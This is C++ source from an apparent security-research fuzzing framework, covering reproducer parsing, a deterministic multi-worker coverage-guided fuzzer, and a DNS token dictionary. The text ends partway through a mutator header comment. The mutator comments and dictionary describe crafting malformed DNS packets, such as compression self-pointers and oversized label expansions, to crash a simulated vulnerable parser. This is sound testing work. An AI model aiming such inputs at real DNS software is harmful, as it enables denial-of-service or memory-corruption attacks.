  return out;
}

util::Result<Reproducer> ParseReproducer(std::string_view text) {
  Reproducer repro;
  bool magic_ok = false;
  bool have_input = false;
  std::size_t pos = 0;
  while (pos <= text.size()) {
    const std::size_t eol = text.find('\n', pos);
    const std::string_view line =
        text.substr(pos, eol == std::string_view::npos ? eol : eol - pos);
    pos = eol == std::string_view::npos ? text.size() + 1 : eol + 1;
    if (line.empty()) continue;
    if (line == kMagic) {
      magic_ok = true;
      continue;
    }
    const auto as_u64 = [](std::string_view v) {
      return std::strtoull(std::string(v).c_str(), nullptr, 0);
    };
    if (auto v = ValueFor(line, "target"); !v.empty()) {
      CONNLAB_ASSIGN_OR_RETURN(repro.config.kind, ParseTargetKind(v));
    } else if (auto a = ValueFor(line, "arch"); !a.empty()) {
      if (a == "vx86") {
        repro.config.arch = isa::Arch::kVX86;
      } else if (a == "varm") {
        repro.config.arch = isa::Arch::kVARM;
      } else {
        return util::Malformed("unknown arch: " + std::string(a));
      }
    } else if (auto s = ValueFor(line, "boot_seed"); !s.empty()) {
      repro.config.boot_seed = as_u64(s);
    } else if (auto p = ValueFor(line, "patched"); !p.empty()) {
      repro.config.patched = as_u64(p) != 0;
    } else if (auto k = ValueFor(line, "kind"); !k.empty()) {
      repro.key.kind = static_cast<ExecResult::Kind>(as_u64(k));
    } else if (auto r = ValueFor(line, "stop"); !r.empty()) {
      repro.key.stop_reason = static_cast<vm::StopReason>(as_u64(r));
    } else if (auto c = ValueFor(line, "pc"); !c.empty()) {
      repro.key.pc = static_cast<mem::GuestAddr>(as_u64(c));
    } else if (auto w = ValueFor(line, "write_fault"); !w.empty()) {
      repro.key.write_fault = as_u64(w) != 0;
    } else if (auto h = ValueFor(line, "stack_hash"); !h.empty()) {
      repro.key.stack_hash = as_u64(h);
    } else if (auto i = ValueFor(line, "input"); !i.empty()) {
      CONNLAB_ASSIGN_OR_RETURN(repro.input, HexDecode(i));
      have_input = true;
    }
  }
  if (!magic_ok) return util::Malformed("missing reproducer magic line");
  if (!have_input) return util::Malformed("reproducer has no input line");
  return repro;
}

util::Result<ExecResult> ReplayReproducer(const Reproducer& repro) {
  CONNLAB_ASSIGN_OR_RETURN(auto target, MakeTarget(repro.config));
  CoverageMap scratch;
  ExecResult result = target->Execute(repro.input, scratch);
  const CrashKey got = KeyFor(result, *target);
  if (!got.CoreMatches(repro.key)) {
    return util::FailedPrecondition("reproducer did not replay: expected " +
                                    FormatCrashKey(repro.key) + ", got " +
                                    FormatCrashKey(got));
  }
  return result;
}

}  // namespace connlab::fuzz
