// The campaign driver: corpus scheduling, mutation, execution, triage.
//
// Single-worker mode is a classic coverage-guided loop: pick an entry
// (energy-weighted), mutate it `energy` times, run each mutant, admit
// coverage-increasing mutants to the corpus, bucket the crashers.
//
// Multi-worker mode shards the budget across N std::threads. Workers are
// fully independent — each boots its own System/target, seeds its own
// corpus, and draws from util::Rng::Split(worker_index), so worker i's
// entire execution sequence is a pure function of (root seed, i),
// independent of thread scheduling. After join, classified coverage maps
// are OR-merged (commutative + associative) and crash buckets are merged
// in worker-index order, so the campaign's report is bit-identical across
// runs for a fixed (seed, workers) pair.
#pragma once

#include <cstdint>

#include "src/fuzz/corpus.hpp"
#include "src/fuzz/coverage.hpp"
#include "src/fuzz/target.hpp"
#include "src/fuzz/triage.hpp"
#include "src/util/status.hpp"

namespace connlab::fuzz {

struct FuzzConfig {
  TargetConfig target;
  /// Root RNG seed; worker i draws from Split(i) of Rng(seed).
  std::uint64_t seed = 1;
  /// Total execution budget, split evenly across workers (seed executions
  /// included).
  std::uint64_t max_execs = 200000;
  std::size_t workers = 1;
  std::size_t max_input_size = 8192;
  /// When non-zero, a worker stops early once it has found this many
  /// distinct crash buckets (early-exit stays deterministic because each
  /// worker only consults its own buckets).
  std::uint64_t stop_after_crashes = 0;
  /// Minimize each bucket's witness after the loop.
  bool minimize = true;
  std::size_t minimize_execs = 2000;
  /// Persistent-corpus file. When set, Run() seeds every worker with the
  /// file's entries (if it exists) and writes the merged corpus back after
  /// the campaign, so coverage accumulates across runs. A missing file is
  /// not an error — the first campaign creates it.
  std::string corpus_path;
  /// Extra seed inputs injected into every worker's seed round, after the
  /// target's built-ins. Run() fills this from `corpus_path`; callers can
  /// also set it directly.
  std::vector<util::Bytes> extra_seeds;
  /// Mutation dictionary (see fuzz/dict.hpp). Empty = no dictionary ops,
  /// bit-identical behaviour to a build without the feature.
  std::vector<util::Bytes> dictionary;
  /// Distill the merged corpus (coverage-ranked greedy minimisation, see
  /// DistillCorpus) before writing it back to `corpus_path`, so the
  /// persistent corpus stays a minimal covering set instead of growing
  /// without bound across nightly re-seeds.
  bool distill = false;
};

struct FuzzStats {
  std::uint64_t execs = 0;           // total inputs run (all workers)
  std::uint64_t crashing_execs = 0;  // non-benign results, pre-dedup
  std::uint64_t reboots = 0;
  std::size_t corpus_size = 0;       // summed across workers
  std::uint32_t coverage_cells = 0;  // non-zero cells in the merged map
  std::uint64_t coverage_digest = 0; // order-independent merged-map digest
  double seconds = 0;
  double execs_per_sec = 0;
};

struct FuzzReport {
  FuzzStats stats;
  CrashTriage triage;    // merged + (optionally) minimized buckets
  CoverageMap coverage;  // merged classified coverage
  Corpus corpus;         // merged (deduplicated) corpus across workers
};

/// Coverage-ranked corpus distillation: re-executes every entry against a
/// fresh target, then greedily keeps the entry covering the most
/// still-uncovered (classified) cells until the kept set covers everything
/// the full corpus covers. Ties break toward smaller inputs, then lower
/// index, so the result is deterministic. Entries contributing no new
/// coverage are dropped — the accumulation-only re-seed's failure mode.
util::Result<Corpus> DistillCorpus(const Corpus& corpus,
                                   const TargetConfig& target_config);

class Fuzzer {
 public:
  explicit Fuzzer(FuzzConfig config) noexcept : config_(config) {}

  /// Runs the campaign to completion and returns the merged report.
  util::Result<FuzzReport> Run();

 private:
  struct WorkerOutput {
    util::Status status = util::OkStatus();
    CoverageMap virgin;  // classified accumulated coverage
    CrashTriage triage;
    std::vector<CorpusEntry> corpus_entries;  // for cross-run persistence
    std::uint64_t execs = 0;
    std::uint64_t crashing_execs = 0;
    std::uint64_t reboots = 0;
    std::size_t corpus_size = 0;
  };

  /// One worker's whole campaign slice; pure function of (config, index).
  static WorkerOutput RunWorker(const FuzzConfig& config,
                                std::size_t worker_index,
                                std::uint64_t budget);

  FuzzConfig config_;
};

}  // namespace connlab::fuzz
