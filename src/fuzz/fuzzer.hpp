// The campaign driver: corpus scheduling, mutation, execution, triage.
//
// Single-worker mode is a classic coverage-guided loop: pick an entry
// (energy-weighted), mutate it `energy` times, run each mutant, admit
// coverage-increasing mutants to the corpus, bucket the crashers.
//
// Multi-worker mode shards the budget across N threads. Each worker boots
// its own System/target, keeps its own sharded virgin coverage map and
// corpus, and draws from util::Rng::Split(worker_index), so worker i's
// execution stream is a pure function of (root seed, i). With
// `sync_interval` > 0 the workers additionally rendezvous at epoch
// barriers (fuzz/sync.hpp) and exchange coverage-increasing finds in
// worker-index order — cross-pollination without scheduling-dependence:
// everything a worker absorbs at epoch e was itself deterministic, so the
// merged campaign stays bit-identical across runs for a fixed
// (seed, workers) pair, sync on or off. After join, classified coverage
// maps are OR-merged (commutative + associative), crash buckets are merged
// in worker-index order, and the corpora are merged deduplicated.
#pragma once

#include <cstdint>

#include "src/fuzz/corpus.hpp"
#include "src/fuzz/coverage.hpp"
#include "src/fuzz/target.hpp"
#include "src/fuzz/triage.hpp"
#include "src/util/status.hpp"

namespace connlab::fuzz {

class EpochExchange;

struct FuzzConfig {
  TargetConfig target;
  /// Root RNG seed; worker i draws from Split(i) of Rng(seed).
  std::uint64_t seed = 1;
  /// Total execution budget, split evenly across workers (seed executions
  /// included).
  std::uint64_t max_execs = 200000;
  std::size_t workers = 1;
  std::size_t max_input_size = 8192;
  /// Epoch-batched cross-worker sync: each worker attends a barrier every
  /// `sync_interval` of its own execs, publishing the coverage-increasing
  /// entries and virgin-map bits it found since the last barrier and
  /// absorbing the other workers' (in worker-index order). 0 disables the
  /// exchange — workers run fully independent, the pre-sync behaviour.
  /// Only meaningful when workers > 1; either setting is deterministic for
  /// a fixed (seed, workers).
  std::uint64_t sync_interval = 2000;
  /// When non-zero, a worker stops early once it has found this many
  /// distinct crash buckets (early-exit stays deterministic because each
  /// worker only consults its own buckets).
  std::uint64_t stop_after_crashes = 0;
  /// Minimize each bucket's witness after the loop.
  bool minimize = true;
  std::size_t minimize_execs = 2000;
  /// Persistent-corpus file. When set, Run() seeds every worker with the
  /// file's entries (if it exists) and writes the merged corpus back after
  /// the campaign, so coverage accumulates across runs. A missing file is
  /// not an error — the first campaign creates it.
  std::string corpus_path;
  /// Extra seed inputs injected into every worker's seed round, after the
  /// target's built-ins. Run() fills this from `corpus_path`; callers can
  /// also set it directly.
  std::vector<util::Bytes> extra_seeds;
  /// Mutation dictionary (see fuzz/dict.hpp). Empty = no dictionary ops,
  /// bit-identical behaviour to a build without the feature.
  std::vector<util::Bytes> dictionary;
  /// Distill the merged corpus (coverage-ranked greedy minimisation, see
  /// DistillCorpus) before writing it back to `corpus_path`, so the
  /// persistent corpus stays a minimal covering set instead of growing
  /// without bound across nightly re-seeds.
  bool distill = false;
};

struct FuzzStats {
  std::uint64_t execs = 0;           // total inputs run (all workers)
  std::uint64_t crashing_execs = 0;  // non-benign results, pre-dedup
  std::uint64_t reboots = 0;
  std::size_t corpus_size = 0;       // merged deduplicated corpus entries
  std::uint32_t coverage_cells = 0;  // non-zero cells in the merged map
  std::uint64_t coverage_digest = 0; // order-independent merged-map digest
  double seconds = 0;                // wall clock, campaign start to join
  double execs_per_sec = 0;          // execs / wall seconds
  /// Summed per-worker thread-CPU time (CLOCK_THREAD_CPUTIME_ID): time the
  /// workers actually computed, excluding scheduler wait and epoch-barrier
  /// blocking. On an unloaded host with >= workers cores this approximates
  /// workers * wall.
  double busy_seconds = 0;
  /// Sum over workers of (worker execs / worker busy seconds) — the
  /// software-scalability throughput: what the same campaign sustains on a
  /// host with enough cores to run every worker concurrently. Equals
  /// execs_per_sec there; on an oversubscribed host wall-clock throughput
  /// flattens while this stays honest about per-worker cost.
  double execs_per_sec_aggregate = 0;
};

struct FuzzReport {
  FuzzStats stats;
  CrashTriage triage;    // merged + (optionally) minimized buckets
  CoverageMap coverage;  // merged classified coverage
  Corpus corpus;         // merged (deduplicated) corpus across workers
};

/// Coverage-ranked corpus distillation: re-executes every entry against a
/// fresh target, then greedily keeps the entry covering the most
/// still-uncovered (classified) cells until the kept set covers everything
/// the full corpus covers. Ties break toward smaller inputs, then lower
/// index, so the result is deterministic. Entries contributing no new
/// coverage are dropped — the accumulation-only re-seed's failure mode.
util::Result<Corpus> DistillCorpus(const Corpus& corpus,
                                   const TargetConfig& target_config);

class Fuzzer {
 public:
  explicit Fuzzer(FuzzConfig config) noexcept : config_(config) {}

  /// Runs the campaign to completion and returns the merged report.
  util::Result<FuzzReport> Run();

 private:
  struct WorkerOutput {
    util::Status status = util::OkStatus();
    CoverageMap virgin;  // classified accumulated coverage
    CrashTriage triage;
    std::vector<CorpusEntry> corpus_entries;  // for cross-run persistence
    std::uint64_t execs = 0;
    std::uint64_t crashing_execs = 0;
    std::uint64_t reboots = 0;
    double busy_seconds = 0;  // this worker's thread-CPU time
  };

  /// One worker's whole campaign slice; pure function of (config, index)
  /// plus — when `exchange` is non-null — the other workers' published
  /// epoch deltas, themselves deterministic.
  static WorkerOutput RunWorker(const FuzzConfig& config,
                                std::size_t worker_index,
                                std::uint64_t budget,
                                EpochExchange* exchange);

  FuzzConfig config_;
};

}  // namespace connlab::fuzz
