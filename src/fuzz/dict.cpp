#include "src/fuzz/dict.hpp"

#include <fstream>
#include <sstream>

namespace connlab::fuzz {

namespace {

int HexNibble(char c) noexcept {
  if (c >= '0' && c <= '9') return c - '0';
  if (c >= 'a' && c <= 'f') return c - 'a' + 10;
  if (c >= 'A' && c <= 'F') return c - 'A' + 10;
  return -1;
}

/// Decodes the quoted section of a dictionary line; `line` must hold the
/// opening quote at `begin`.
util::Result<util::Bytes> DecodeQuoted(const std::string& line,
                                       std::size_t begin) {
  util::Bytes token;
  std::size_t i = begin + 1;
  while (i < line.size() && line[i] != '"') {
    char c = line[i];
    if (c == '\\') {
      if (i + 1 >= line.size()) {
        return util::InvalidArgument("dictionary: dangling escape: " + line);
      }
      const char esc = line[i + 1];
      if (esc == 'x' || esc == 'X') {
        if (i + 3 >= line.size()) {
          return util::InvalidArgument("dictionary: short \\x escape: " + line);
        }
        const int hi = HexNibble(line[i + 2]);
        const int lo = HexNibble(line[i + 3]);
        if (hi < 0 || lo < 0) {
          return util::InvalidArgument("dictionary: bad \\x escape: " + line);
        }
        token.push_back(static_cast<std::uint8_t>(hi << 4 | lo));
        i += 4;
        continue;
      }
      if (esc == '\\' || esc == '"') {
        token.push_back(static_cast<std::uint8_t>(esc));
        i += 2;
        continue;
      }
      return util::InvalidArgument("dictionary: unknown escape: " + line);
    }
    token.push_back(static_cast<std::uint8_t>(c));
    ++i;
  }
  if (i >= line.size()) {
    return util::InvalidArgument("dictionary: unterminated quote: " + line);
  }
  if (token.empty()) {
    return util::InvalidArgument("dictionary: empty token: " + line);
  }
  return token;
}

}  // namespace

util::Result<std::vector<util::Bytes>> ParseDictionary(
    const std::string& text) {
  std::vector<util::Bytes> tokens;
  std::istringstream in(text);
  std::string line;
  while (std::getline(in, line)) {
    // Trim leading whitespace; skip blanks and comments.
    std::size_t begin = 0;
    while (begin < line.size() &&
           (line[begin] == ' ' || line[begin] == '\t' || line[begin] == '\r')) {
      ++begin;
    }
    if (begin >= line.size() || line[begin] == '#') continue;
    // Either `name="..."` or a bare `"..."`.
    const std::size_t quote = line.find('"', begin);
    if (quote == std::string::npos) {
      return util::InvalidArgument("dictionary: no quoted token: " + line);
    }
    CONNLAB_ASSIGN_OR_RETURN(util::Bytes token, DecodeQuoted(line, quote));
    tokens.push_back(std::move(token));
  }
  return tokens;
}

util::Result<std::vector<util::Bytes>> LoadDictionaryFile(
    const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  if (!in) return util::NotFound("dictionary file not found: " + path);
  std::ostringstream text;
  text << in.rdbuf();
  return ParseDictionary(text.str());
}

std::vector<util::Bytes> DefaultDnsDictionary() {
  std::vector<util::Bytes> tokens;
  tokens.push_back({0xC0, 0x0C});              // pointer to the question name
  tokens.push_back({0xC0, 0x00});              // pointer to the header
  tokens.push_back({0x3F});                    // max label length
  tokens.push_back({0x00, 0x01, 0x00, 0x01});  // type A / class IN
  tokens.push_back({0x00, 0x00, 0x00, 0x04});  // rdlength 4
  // The RR-type words the record layer speaks: splicing one next to a
  // class/rdlength word flips an answer into a decoder path (CNAME chains,
  // SOA's seven fields, MX's preference word) the havoc loop rarely forms.
  tokens.push_back({0x00, 0x05});              // type CNAME
  tokens.push_back({0x00, 0x06});              // type SOA
  tokens.push_back({0x00, 0x0C});              // type PTR
  tokens.push_back({0x00, 0x0F});              // type MX
  tokens.push_back({0x00, 0x10});              // type TXT
  util::Bytes run;                             // a ready-made 8-byte label
  run.push_back(0x08);
  for (int i = 0; i < 8; ++i) run.push_back(0x61);
  tokens.push_back(std::move(run));
  return tokens;
}

}  // namespace connlab::fuzz
