#include "src/fuzz/fuzzer.hpp"

#include <chrono>
#include <ctime>
#include <vector>

#include "src/fuzz/mutator.hpp"
#include "src/fuzz/sync.hpp"
#include "src/obs/obs.hpp"
#include "src/util/parallel.hpp"
#include "src/util/rng.hpp"

namespace connlab::fuzz {

namespace {

/// CPU time this thread has actually burned — barrier blocking and
/// scheduler wait don't accrue, which is exactly what makes the per-worker
/// throughput a host-independent scalability number.
double ThreadCpuSeconds() noexcept {
  timespec ts{};
  if (clock_gettime(CLOCK_THREAD_CPUTIME_ID, &ts) != 0) return 0;
  return static_cast<double>(ts.tv_sec) +
         static_cast<double>(ts.tv_nsec) * 1e-9;
}

}  // namespace

Fuzzer::WorkerOutput Fuzzer::RunWorker(const FuzzConfig& config,
                                       std::size_t worker_index,
                                       std::uint64_t budget,
                                       EpochExchange* exchange) {
  WorkerOutput out;
  const double busy_start = ThreadCpuSeconds();
  OBS_TRACE_SPAN(worker_span, "fuzz", "RunWorker");
  worker_span.Arg("worker", static_cast<std::uint64_t>(worker_index));
  worker_span.Arg("budget", budget);

  // Everything a worker publishes at a barrier accumulates here between
  // epochs; delta_sink routes AbsorbInto's newly-lit virgin bits in.
  std::size_t epoch = 0;
  EpochDelta epoch_out;
  std::vector<CoverageDelta>* delta_sink =
      exchange != nullptr ? &epoch_out.coverage : nullptr;
  const std::uint64_t interval =
      exchange != nullptr ? config.sync_interval : 0;

  auto target_or = MakeTarget(config.target);
  if (!target_or.ok()) {
    out.status = target_or.status();
    // The other workers' barriers must not starve because this worker never
    // fuzzes: keep attending with an empty done-flagged delta until the
    // whole fleet reports done.
    if (exchange != nullptr) {
      EpochDelta empty;
      empty.done = true;
      while (!EpochExchange::AllDone(
          exchange->ExchangeAndWait(worker_index, epoch++, empty))) {
      }
    }
    out.busy_seconds = ThreadCpuSeconds() - busy_start;
    return out;
  }
  std::unique_ptr<FuzzTarget> target = std::move(target_or).value();

  // Worker stream: depends only on (root seed, worker index), never on
  // thread scheduling. With sync on it additionally depends on the other
  // workers' published deltas — themselves deterministic, absorbed at
  // deterministic points, in fixed worker-index order.
  Mutator mutator(util::Rng(config.seed).Split(worker_index));
  util::Rng& rng = mutator.rng();

  const MutationHint hint{target->fixed_prefix(), target->dns_shaped(),
                          config.max_input_size,
                          config.dictionary.empty() ? nullptr
                                                    : &config.dictionary};

  Corpus corpus;
  CoverageMap exec_map;

  const auto run_one = [&](util::ByteSpan input) -> ExecResult {
    exec_map.Clear();
    ExecResult result = target->Execute(input, exec_map);
    ++out.execs;
    // Counted here and nowhere else, so the scraped fuzz.execs is exactly
    // the campaign's reported exec count (minimization and crash replays
    // deliberately bypass run_one and therefore the counter).
    OBS_COUNT("fuzz.execs");
    OBS_HISTOGRAM("fuzz.input_bytes", input.size());
    return result;
  };

  // Coverage-increasing mutants found mid-burst are queued here and flushed
  // after the burst: the corpus stays frozen while parent/donor references
  // into it are live, and the scheduler only ever sees a settled corpus.
  // `found_at` is captured at discovery time, so the admitted entries are
  // byte-identical to the old add-immediately behaviour (PickIndex runs only
  // between bursts either way).
  std::vector<CorpusEntry> pending;
  bool defer_adds = false;

  const auto record = [&](const ExecResult& result, util::ByteSpan input) {
    if (result.kind == ExecResult::Kind::kBenign) {
      exec_map.Classify();
      const int news = exec_map.AbsorbInto(out.virgin, delta_sink);
      if (news > 0) {
        OBS_COUNT("fuzz.corpus_adds");
        util::Bytes data(input.begin(), input.end());
        if (exchange != nullptr) {
          epoch_out.entries.push_back(CorpusEntry{data, news, out.execs, 0});
        }
        if (defer_adds) {
          pending.push_back(CorpusEntry{std::move(data), news, out.execs, 0});
        } else {
          corpus.Add(std::move(data), news, out.execs);
        }
      }
    } else {
      ++out.crashing_execs;
      OBS_COUNT("fuzz.crashes");
      OBS_TRACE_INSTANT("fuzz", "crash");
      out.triage.Record(result, input, out.execs, *target);
    }
  };

  // One barrier visit: publish the accumulated delta, wait for the row to
  // complete, and — unless this worker is done, its state frozen for the
  // merge — absorb the other workers' deltas in worker-index order. Never
  // call mid-burst: absorbing adds corpus entries, and the burst holds
  // references into the corpus.
  const auto attend = [&](bool worker_done) -> bool {
    epoch_out.done = worker_done;
    const std::vector<EpochDelta>& row =
        exchange->ExchangeAndWait(worker_index, epoch, std::move(epoch_out));
    epoch_out = EpochDelta{};
    ++epoch;
    if (!worker_done) {
      for (std::size_t j = 0; j < row.size(); ++j) {
        if (j == worker_index) continue;
        out.virgin.ApplyDelta(row[j].coverage);
        for (const CorpusEntry& e : row[j].entries) {
          corpus.Add(e.data, e.news, e.found_at);
        }
      }
    }
    return EpochExchange::AllDone(row);
  };

  // Seed round: every seed runs once and is admitted regardless of
  // coverage (the corpus must never start empty). Extra seeds — typically
  // a persisted corpus from an earlier campaign — join the same round.
  for (const util::Bytes& seed : target->SeedCorpus()) {
    if (out.execs >= budget) break;
    const ExecResult result = run_one(seed);
    record(result, seed);
    corpus.Add(seed, 1, out.execs);
  }
  for (const util::Bytes& seed : config.extra_seeds) {
    if (out.execs >= budget) break;
    const ExecResult result = run_one(seed);
    record(result, seed);
    corpus.Add(seed, 1, out.execs);
  }

  const auto done = [&] {
    if (out.execs >= budget) return true;
    return config.stop_after_crashes != 0 &&
           out.triage.buckets().size() >= config.stop_after_crashes;
  };

  util::Bytes scratch;  // the mutant buffer, reused across every exec
  while (!done() && !corpus.empty()) {
    OBS_COUNT("fuzz.scheduler_picks");
    const std::size_t pick = corpus.PickIndex(rng);
    const std::uint32_t energy = corpus.EnergyFor(pick);
    // The corpus is frozen for the whole burst (adds are deferred), so the
    // parent and donor are plain references — no per-burst deep copies.
    const util::Bytes& parent = corpus.entry(pick).data;
    util::ByteSpan donor;
    if (corpus.size() > 1) {
      std::size_t d = rng.NextBelow(corpus.size());
      if (d == pick) d = (d + 1) % corpus.size();
      donor = corpus.entry(d).data;
    }
    defer_adds = true;
    for (std::uint32_t e = 0; e < energy && !done(); ++e) {
      mutator.MutateInto(parent, hint, donor, scratch);
      const ExecResult result = run_one(scratch);
      record(result, scratch);
    }
    defer_adds = false;
    for (CorpusEntry& e : pending) {
      corpus.Add(std::move(e.data), e.news, e.found_at);
    }
    pending.clear();
    // Fixed epoch grid over this worker's own exec count: bursts overrun a
    // boundary by up to their energy, so a single burst can cross several —
    // attend each in turn (the later ones publish empty deltas). The grid
    // depends on nothing but (budget position, interval), so attendance is
    // scheduling-independent.
    while (interval != 0 && !done() &&
           out.execs >= (epoch + 1) * interval) {
      attend(false);
    }
  }

  // Budget spent: keep the barrier alive for workers still fuzzing. The
  // final visit publishes whatever accumulated since the last boundary, and
  // the loop exits only when every worker has flagged done — all workers
  // agree on the final epoch. Runs before minimization so a slow shrink
  // can't stall the rest of the fleet at a barrier.
  if (exchange != nullptr) {
    while (!attend(true)) {
    }
  }

  // Minimization shrinks a witness by re-executing candidates and checking
  // they still land in the same bucket — a single-input property. Stateful
  // targets crash on request *sequences*, so shrinking one input against a
  // live daemon whose heap the campaign already reshaped proves nothing;
  // their buckets keep the full witness.
  if (config.minimize && !target->stateful_across_execs()) {
    for (CrashBucket& bucket : out.triage.buckets()) {
      MinimizeBucket(*target, bucket, config.minimize_execs);
    }
  }

  out.reboots = target->reboots();
  out.corpus_entries = corpus.entries();
  OBS_COUNT_N("fuzz.reboots", out.reboots);
#ifndef CONNLAB_OBS_DISABLED
  // Per-worker throughput: the name varies per worker, so this has to hit
  // the registry directly instead of the per-call-site interning macro
  // (which would pin whichever worker index arrived first).
  obs::Registry::Instance()
      .GetCounter("fuzz.worker." + std::to_string(worker_index) + ".execs")
      .Add(out.execs);
#endif
  worker_span.Arg("execs", out.execs);
  worker_span.Arg("crashes", out.crashing_execs);
  out.busy_seconds = ThreadCpuSeconds() - busy_start;
  return out;
}

util::Result<FuzzReport> Fuzzer::Run() {
  if (config_.workers == 0) return util::InvalidArgument("workers must be >= 1");
  const std::size_t workers = config_.workers;
  // Exact budget split: the first max_execs % workers workers run one extra
  // exec, so the campaign executes precisely max_execs inputs instead of
  // silently truncating the remainder.
  const std::uint64_t base_budget = config_.max_execs / workers;
  const std::uint64_t remainder = config_.max_execs % workers;
  if (base_budget == 0) {
    return util::InvalidArgument("budget smaller than worker count");
  }

  FuzzConfig config = config_;
  if (!config.corpus_path.empty()) {
    // A missing file just means this is the first campaign on this path.
    auto persisted = LoadCorpus(config.corpus_path);
    if (persisted.ok()) {
      for (const CorpusEntry& e : persisted.value().entries()) {
        config.extra_seeds.push_back(e.data);
      }
    } else if (persisted.status().code() != util::StatusCode::kNotFound) {
      return persisted.status();
    }
  }

  OBS_TRACE_SPAN(campaign_span, "fuzz", "Campaign");
  campaign_span.Arg("workers", static_cast<std::uint64_t>(workers));
  campaign_span.Arg("max_execs", config.max_execs);
  OBS_GAUGE_SET("fuzz.workers", workers);

  const auto start = std::chrono::steady_clock::now();
  std::vector<WorkerOutput> outputs(workers);
  const auto worker_budget = [base_budget, remainder](std::size_t i) {
    return base_budget + (i < remainder ? 1u : 0u);
  };
  EpochExchange exchange(workers);
  EpochExchange* sync =
      workers > 1 && config.sync_interval != 0 ? &exchange : nullptr;
  if (workers == 1) {
    outputs[0] = RunWorker(config, 0, worker_budget(0), nullptr);
  } else {
    util::ParallelInvoke(workers, [&](std::size_t i) {
      outputs[i] = RunWorker(config, i, worker_budget(i), sync);
    });
  }
  const auto end = std::chrono::steady_clock::now();

  FuzzReport report;
  // Merge in worker-index order: coverage OR is order-independent anyway;
  // bucket merge order fixes which worker's witness wins ties.
  for (std::size_t i = 0; i < workers; ++i) {
    WorkerOutput& w = outputs[i];
    if (!w.status.ok()) return w.status;
    report.coverage.MergeClassified(w.virgin);
    report.triage.Merge(w.triage);
    for (CorpusEntry& e : w.corpus_entries) {
      report.corpus.Add(std::move(e.data), e.news, e.found_at);
    }
    report.stats.execs += w.execs;
    report.stats.crashing_execs += w.crashing_execs;
    report.stats.reboots += w.reboots;
    report.stats.busy_seconds += w.busy_seconds;
    if (w.busy_seconds > 0) {
      report.stats.execs_per_sec_aggregate +=
          static_cast<double>(w.execs) / w.busy_seconds;
    }
  }
  report.stats.corpus_size = report.corpus.size();
  report.stats.coverage_cells = report.coverage.CountNonZero();
  report.stats.coverage_digest = report.coverage.Digest();
  report.stats.seconds =
      std::chrono::duration<double>(end - start).count();
  report.stats.execs_per_sec =
      report.stats.seconds > 0
          ? static_cast<double>(report.stats.execs) / report.stats.seconds
          : 0;
  if (config.distill) {
    CONNLAB_ASSIGN_OR_RETURN(report.corpus,
                             DistillCorpus(report.corpus, config.target));
    report.stats.corpus_size = report.corpus.size();
  }
  if (!config.corpus_path.empty()) {
    CONNLAB_RETURN_IF_ERROR(SaveCorpus(report.corpus, config.corpus_path));
  }
  return report;
}

namespace {

/// Bits set in `candidate` that `covered` lacks (both classified).
std::uint32_t NewBits(const CoverageMap& candidate,
                      const CoverageMap& covered) noexcept {
  std::uint32_t bits = 0;
  const std::uint8_t* c = candidate.data();
  const std::uint8_t* v = covered.data();
  for (std::uint32_t i = 0; i < CoverageMap::kSize; ++i) {
    std::uint8_t fresh = static_cast<std::uint8_t>(c[i] & ~v[i]);
    while (fresh != 0) {
      fresh &= static_cast<std::uint8_t>(fresh - 1);
      ++bits;
    }
  }
  return bits;
}

}  // namespace

util::Result<Corpus> DistillCorpus(const Corpus& corpus,
                                   const TargetConfig& target_config) {
  OBS_TRACE_SPAN(span, "fuzz", "DistillCorpus");
  span.Arg("entries_in", static_cast<std::uint64_t>(corpus.size()));
  Corpus kept;
  if (corpus.empty()) return kept;
  CONNLAB_ASSIGN_OR_RETURN(std::unique_ptr<FuzzTarget> target,
                           MakeTarget(target_config));

  // Re-execute every entry in corpus order (deterministic: stateful targets
  // see the same request sequence every distillation run) and keep its
  // classified per-entry map.
  std::vector<CoverageMap> maps(corpus.size());
  for (std::size_t i = 0; i < corpus.size(); ++i) {
    target->Execute(corpus.entry(i).data, maps[i]);
    maps[i].Classify();
  }

  // Greedy set cover over coverage bits: repeatedly keep the entry adding
  // the most uncovered bits; ties break toward smaller inputs, then lower
  // index. Stops when the remaining entries add nothing.
  CoverageMap covered;
  std::vector<bool> used(corpus.size(), false);
  for (;;) {
    std::size_t best = corpus.size();
    std::uint32_t best_bits = 0;
    for (std::size_t i = 0; i < corpus.size(); ++i) {
      if (used[i]) continue;
      const std::uint32_t bits = NewBits(maps[i], covered);
      if (bits == 0) continue;
      const bool wins =
          best == corpus.size() || bits > best_bits ||
          (bits == best_bits &&
           corpus.entry(i).data.size() < corpus.entry(best).data.size());
      if (wins) {
        best = i;
        best_bits = bits;
      }
    }
    if (best == corpus.size()) break;
    used[best] = true;
    covered.MergeClassified(maps[best]);
    const CorpusEntry& e = corpus.entry(best);
    kept.Add(e.data, e.news, e.found_at);
  }
  span.Arg("entries_out", static_cast<std::uint64_t>(kept.size()));
  return kept;
}

}  // namespace connlab::fuzz
