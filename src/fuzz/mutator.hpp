// Mutation engine: generic havoc plus DNS-structure-aware operators.
//
// The structural tier understands just enough of the wire format to mutate
// at DNS-field granularity without a full (strict) decode — crafted inputs
// are exactly the ones dns::Decode rejects. It walks the label sequence at
// the first answer's owner name (right after the harness-fixed
// header/question prefix) with the same tolerant algorithm the vulnerable
// parser uses, then performs label surgery: grow a label toward the 0x3f
// boundary, duplicate label runs (the cheapest road to a >1024-byte
// expansion), splice in compression pointers (including the self-pointer
// that makes a compact packet expand many times — the CVE's compression
// facet), bump the answer count, truncate mid-structure.
//
// Every draw comes from the caller's Rng, so a campaign is replayable from
// its root seed.
//
// The hot-loop entry point is MutateInto: it writes the mutant into a
// caller-owned scratch buffer and routes every intermediate copy through
// member scratch space, so a steady-state fuzz loop allocates nothing per
// execution. Mutate (returning a fresh buffer) wraps it for callers that
// don't care; both draw the identical RNG sequence and produce identical
// bytes.
#pragma once

#include <cstdint>
#include <string>
#include <vector>

#include "src/util/bytes.hpp"
#include "src/util/rng.hpp"

namespace connlab::fuzz {

struct MutationHint {
  /// Bytes [0, fixed_prefix) are copied through untouched (the id +
  /// question echo the service checks before parsing). One exception:
  /// BumpAnswerCount edits header bytes 6-7 (ancount) — the services
  /// parse that count but never echo-check it.
  std::size_t fixed_prefix = 0;
  /// Enables the DNS structural operators.
  bool dns = false;
  /// Hard cap on output size (the simulated datagram/heap limit).
  std::size_t max_size = 8192;
  /// Optional user token list (AFL-style dictionary): when non-null and
  /// non-empty, the havoc tier gains insert-token / overwrite-with-token
  /// operators. Null or empty leaves the RNG draw sequence — and therefore
  /// every existing campaign's replay — bit-identical to the no-dictionary
